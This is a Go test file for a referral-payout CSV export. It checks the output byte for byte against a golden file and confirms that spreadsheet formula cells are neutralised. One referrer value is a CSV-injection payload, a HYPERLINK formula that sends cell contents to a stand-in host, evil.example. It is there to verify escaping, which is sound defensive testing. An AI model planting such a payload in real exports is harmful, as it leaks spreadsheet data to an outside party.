package domain_test

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/echopilot/echopilot/platform/store/storetest"
	"github.com/echopilot/echopilot/services/growth/internal/domain"
)

var update = flag.Bool("update", false, "rewrite testdata/payouts.golden.csv")

// The payout export, byte for byte, on both databases: the seed's header,
// one row per active referral by code, amounts with two decimals, the
// minimum payout applied, and every cell a spreadsheet would run as a
// formula neutralised.
func TestPayoutExportGolden(t *testing.T) {
	golden := filepath.Join("testdata", "payouts.golden.csv")
	for _, b := range storetest.Backends() {
		t.Run(b.Name, func(t *testing.T) {
			svc := newService(t, b)
			for i, referrer := range []string{
				"user1", `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`, "-1+2", "@SUM(A1)", "+1-1",
				`Smith, "Jo"`, "quiet", "user1",
			} {
				campaign := "spring2025"
				if i == 1 || i == 7 {
					campaign = "default"
				}
				c := create(t, svc, "acme", referrer, campaign)
				record(t, svc, "acme",
					domain.EventInput{Code: c, Type: "click", ID: c + "-click", OccurredAt: at(time.Hour)},
					domain.EventInput{Code: c, Type: "signup", ID: c + "-signup", OccurredAt: at(time.Hour)},
				)
				if referrer == "quiet" {
					continue // signed up, bought nothing: below any minimum
				}
				record(t, svc, "acme", domain.EventInput{Code: c, Type: "conversion", ID: c + "-conv", CustomerID: "cust",
					Revenue: float64(10000+i*1234) / 100, OccurredAt: at(2 * time.Hour)})
			}
			// Another tenant's referral never shows.
			other := create(t, svc, "globex", "outsider", "default")
			record(t, svc, "globex", domain.EventInput{Code: other, Type: "conversion", ID: "g", Revenue: 1e6})

			var got bytes.Buffer
			got.Write(exportCSV(t, svc, "acme", 7, 0))
			got.WriteString("--- min_payout=24.94\n")
			got.Write(exportCSV(t, svc, "acme", 7, 24.94))
			if *update && b.Name == "sqlite" {
				if err := os.WriteFile(golden, got.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(got.Bytes(), want) {
				t.Fatalf("export differs from %s\n got:\n%s\nwant:\n%s", golden, got.Bytes(), want)
			}
		})
	}
}

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "user": "user", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)",
		"\tx": "'\tx", "\rx": "'\rx", "a=b": "a=b", "'=x": "'=x",
	} {
		if got := domain.SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}
